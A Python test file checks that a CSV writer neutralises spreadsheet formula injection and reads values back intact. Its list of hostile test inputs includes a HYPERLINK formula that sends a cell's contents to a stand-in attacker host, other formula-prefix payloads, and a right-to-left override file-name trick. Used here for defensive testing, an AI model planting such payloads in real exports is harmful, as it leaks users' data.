"""CSV that spreadsheets take for text, and that reads back as it was written."""

from __future__ import annotations

import csv
import io
import itertools

import pytest

from schemas.findings import (
    FINDINGS_CSV,
    FINDINGS_JSON,
    KINDS,
    Finding,
    Findings,
    findings_csv,
    findings_json,
    read_findings,
    read_findings_csv,
)
from schemas.safe_csv import csv_bytes, read_csv

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-cat",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=1",
    "''@x",
    "'",
    "'cat'",
    "a,b;c",
    'say "cheese"',
    "two\nlines",
    "  blanks  ",
    "K\udcf6nig",
    "\u202egnp.exe",
    "x" * 10_000,
    "",
]


@pytest.mark.parametrize("cells", list(itertools.pairwise(NASTY)))
def test_every_text_reads_back(tmp_path, cells):
    file = tmp_path / "x.csv"
    file.write_bytes(csv_bytes(["=one", "two"], [dict(zip(("=one", "two"), cells, strict=True))]))
    header, rows = read_csv(file)
    assert header == ["=one", "two"]
    assert [tuple(row.cells.values()) for row in rows] == ([cells] if any(cells) else [])


def test_no_cell_starts_like_a_formula():
    content = csv_bytes(["x"], [{"x": cell} for cell in NASTY if "\udcf6" not in cell]).decode()
    cells = [row[0] for row in csv.reader(io.StringIO(content, newline="")) if row]
    assert len(cells) > 15
    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and cell] == []


def test_what_spreadsheets_write_is_read(tmp_path):
    file = tmp_path / "x.csv"
    file.write_bytes("\ufeffone;two\n\n1;a,b\n2\n".encode())
    header, rows = read_csv(file)
    assert header == ["one", "two"]
    assert [(row.number, row.cells) for row in rows] == [
        (3, {"one": "1", "two": "a,b"}),
        (4, {"one": "2", "two": ""}),
    ]
    file.write_bytes(b"one,two\n1,2,3\n")
    with pytest.raises(ValueError, match="has 3 cells in line 2, and 2 in its header"):
        read_csv(file)
    file.write_bytes(b"")
    assert read_csv(file) == ([], [])


def test_findings_read_back_from_both_files(tmp_path):
    found = [
        Finding(kind=kind, dataset="image_folder", path=f"{name}.jpg", span="17", label=name, probability=probability)
        for kind, name, probability in zip(KINDS, NASTY, [0.25, None, 1.0, 0.0, 1e-9, None, 2 / 3], strict=False)
    ]
    every = Findings(run_id="a run", labels=["=cat", "dog"], counts={KINDS[0]: 7}, findings=found)
    (tmp_path / FINDINGS_JSON).write_bytes(findings_json(every))
    (tmp_path / FINDINGS_CSV).write_bytes(findings_csv(every))
    assert read_findings(tmp_path) == every
    assert read_findings_csv(tmp_path / FINDINGS_CSV) == found
